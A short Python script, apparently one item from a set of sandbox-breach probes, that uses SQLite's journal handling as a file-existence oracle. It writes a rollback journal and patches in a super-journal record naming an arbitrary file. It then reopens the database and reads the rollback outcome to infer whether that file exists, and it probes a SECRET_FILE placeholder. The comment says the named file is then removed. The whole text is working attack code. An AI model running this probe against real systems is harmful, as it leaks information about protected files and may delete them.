# A journal is rolled back if another one exists, whose name it has: any file's. That one is
# removed then, so it must be a planted file.
# breach: setting existence
import os, sqlite3, struct
def exists(name):
    connection = sqlite3.connect("rolled.db", isolation_level=None)
    connection.executescript("drop table if exists t; create table t(x); insert into t values ('before'); begin;"
                             "update t set x = 'after'; pragma cache_size = 1; create table f as "
                             "with recursive n(i) as (select 1 union all select i + 1 from n where i < 9999) "
                             "select hex(randomblob(50)) from n")
    with open("rolled.db-journal", "rb") as file:
        journal = file.read()
    connection.execute("commit")
    connection.close()
    magic, text = bytes.fromhex("d9d505f920a163d7"), name.encode()
    with open("rolled.db-journal", "wb") as file:
        file.write(magic + journal[8:] + struct.pack(">I", 0x40000000 // 4096 + 1) + text +
                   struct.pack(">II", len(text), sum(text)) + magic)
    connection = sqlite3.connect("rolled.db")
    try:
        return connection.execute("select x from t").fetchall() != [("after",)]
    except sqlite3.OperationalError:
        return True
    finally:
        connection.close()
        for left in {"rolled.db", "rolled.db-journal"}.intersection(os.listdir()):
            os.remove(left)
exists(SECRET_FILE), exists(SECRET_FILE + "x")
